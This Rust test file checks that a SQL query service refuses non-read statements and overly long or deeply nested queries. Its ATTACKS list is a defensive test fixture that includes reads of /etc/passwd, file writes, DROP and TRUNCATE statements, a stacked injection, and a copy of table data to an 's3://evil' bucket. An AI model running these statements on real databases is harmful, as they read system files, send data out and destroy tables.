//! Statements that are no questions are refused, and nothing comes of them.

use tephra_query::ErrorKind;

use crate::lab::{Lab, Placed};

/// Reads about the session itself, which stay allowed.
const ALLOWED: [&str; 4] = [
    "show tables",
    "describe events",
    "select * from information_schema.tables limit 1",
    "explain select * from events",
];

const ATTACKS: [&str; 38] = [
    "select * from '/etc/passwd'",
    "create external table x(a varchar) stored as csv location '/etc/passwd'",
    "copy (select 1) to '/tmp/zz1.csv'",
    "explain copy (select 1) to '/tmp/zz2.csv'",
    "explain analyze copy (select 1) to '/tmp/zz3.csv'",
    "insert into events values (3)",
    "explain analyze insert into events values (3)",
    "set datafusion.execution.batch_size=1",
    "reset datafusion.execution.batch_size",
    "create view v as select 1",
    "create table q as select 1",
    "drop table events",
    "delete from events",
    "update events set a=1",
    "truncate table events",
    "prepare p as select 1",
    "execute p",
    "deallocate p",
    "create function f(int) returns int return $1",
    "begin",
    "show all",
    "select * from information_schema.df_settings limit 1",
    "select * from read_csv('/etc/passwd')",
    "select * from read_parquet('/x')",
    "select * from parquet_metadata('/x')",
    "with recursive r as (select 1 as n union all select n+1 from r) select count(*) from (select * from r limit 10)",
    "select * from events; drop table events",
    "create schema s",
    "use x",
    "grant select on events to u",
    "load 'x'",
    "attach 'x'",
    "vacuum",
    "kill 1",
    "copy events to 's3://evil/x'",
    "select 1 into q",
    "with w as (select 1) insert into events select * from w",
    "explain explain analyze select 1",
];

#[tokio::test(flavor = "multi_thread")]
async fn every_attack_is_refused() {
    let lab = Lab::with(Placed::Mixed, 300).await;
    for sql in ATTACKS {
        let error = lab.error(sql).await;
        assert_eq!(error.kind, ErrorKind::Invalid, "{sql}: {error:?}");
    }
    for sql in ALLOWED {
        assert!(!lab.rows(&[1], sql).await.is_empty(), "{sql}");
    }
    assert_eq!(lab.rows(&[1, 2, 3], "SELECT count(*) AS n FROM events").await, ["{\"n\":300}"]);
    assert!(!std::path::Path::new("/tmp/zz1.csv").exists());
}

#[tokio::test(flavor = "multi_thread")]
async fn long_and_deep_statements_are_refused() {
    let lab = Lab::with(Placed::Hot, 3).await;
    let long = format!("SELECT '{}'", "x".repeat(70_000));
    assert!(lab.error(&long).await.message.contains("sql_bytes_max"));
    let deep = format!("SELECT {}1{}", "(".repeat(500), ")".repeat(500));
    assert_eq!(lab.error(&deep).await.kind, ErrorKind::Invalid);
    for link in ["+", " OR ", " UNION ALL SELECT "] {
        let wide = format!("SELECT {}", vec!["1"; 4_000].join(link));
        assert_eq!(lab.error(&wide).await.kind, ErrorKind::Invalid, "{link}");
    }
    let chain = vec!["level = 'x'"; 200].join(" OR ");
    let wide = format!("SELECT count(*) AS n FROM events WHERE {chain}");
    assert_eq!(lab.rows(&[1], &wide).await, ["{\"n\":0}"]);
}
